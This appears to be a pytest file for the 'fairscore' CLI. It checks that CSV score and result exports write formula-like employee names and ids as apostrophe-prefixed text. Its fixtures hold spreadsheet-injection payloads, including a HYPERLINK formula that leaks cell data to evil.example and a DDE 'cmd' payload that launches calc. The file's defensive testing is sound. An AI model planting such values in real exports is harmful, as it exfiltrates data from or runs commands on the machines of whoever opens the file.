"""`fairscore scores --format csv` and `fairscore results`: cells a spreadsheet would run
as formulas are written as text (service/usecases/csv_export.py, shared with the admin)."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

from service.usecases.csv_export import FORMULA_STARTS
from tests.cli.conftest import Fairscore

# Names and external ids as a careless import or an attacker would leave them.
FORMULAS = {
    "X-1": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "X-2": "@SUM(1+9)*cmd|' /C calc'!A0",
    "X-3": "+1+2",
    "X-4": "-1+2",
    "X-5": "\t=1+2",
    "X-6": "\r=1+2",
}
FORMULA_IDS = ["=E1101", "-2+3"]


def _add_formula_people(fairscore: Fairscore, tmp_path: Path) -> None:
    people = [
        {"external_id": code, "name": name, "team": "hotline", "position": "agent",
         "hired_on": "2022-01-01"}
        for code, name in FORMULAS.items()
    ] + [
        {"external_id": code, "name": "Plain Name", "team": "hotline", "position": "agent",
         "hired_on": "2022-01-01"}
        for code in FORMULA_IDS
    ]  # fmt: skip
    path = tmp_path / "people.yaml"
    # JSON is YAML: the control characters survive as escapes.
    path.write_text(json.dumps({"employees": people}), encoding="utf-8")
    fairscore.ok("apply", str(path))


def _stored_names(fairscore: Fairscore) -> dict[str, str]:
    """Names as stored (input is trimmed, so a leading tab may not survive it)."""
    rows = json.loads(fairscore.ok("results", "--cycle", "2026-Q4", "--format", "json").stdout)
    return {r["employee_external_id"]: r["employee_name"] for r in rows}


def _cells(output: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(output, newline="")))


def _assert_no_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), (cell, row)


def test_scores_csv_writes_formula_like_names_and_ids_as_text(
    organisation: Fairscore, tmp_path: Path
) -> None:
    _add_formula_people(organisation, tmp_path)

    rows = _cells(organisation.ok("scores", "--cycle", "2026-Q4", "--format", "csv").stdout)

    _assert_no_formula(rows)
    header = rows[0]
    by_id = {row[header.index("employee_external_id")]: row for row in rows[1:]}
    stored = _stored_names(organisation)
    for code in FORMULAS:
        assert stored[code].startswith(FORMULA_STARTS)
        assert by_id[code][header.index("name")] == "'" + stored[code]
    for code in FORMULA_IDS:
        assert "'" + code in by_id
    assert len(rows) == 1 + 8 + len(FORMULAS) + len(FORMULA_IDS)


def test_results_csv_writes_formula_like_names_and_ids_as_text_and_numbers_as_numbers(
    scored: Fairscore, tmp_path: Path
) -> None:
    _add_formula_people(scored, tmp_path)

    rows = _cells(scored.ok("results", "--cycle", "2026-Q4", "--format", "csv").stdout)

    _assert_no_formula(rows)
    header = rows[0]
    by_id = {row[0]: row for row in rows[1:]}
    stored = _stored_names(scored)
    for code in FORMULAS:
        assert by_id[code][header.index("employee_name")] == "'" + stored[code]
    for code in FORMULA_IDS:
        assert "'" + code in by_id
    totals = [row[header.index("total")] for row in rows[1:] if row[header.index("total")]]
    assert totals, "some employees are scored"
    for total in totals:
        float(total)  # a number a spreadsheet can sum, not text
    # The JSON output is data, not a spreadsheet: names exactly as stored.
    assert stored["X-1"] == FORMULAS["X-1"]
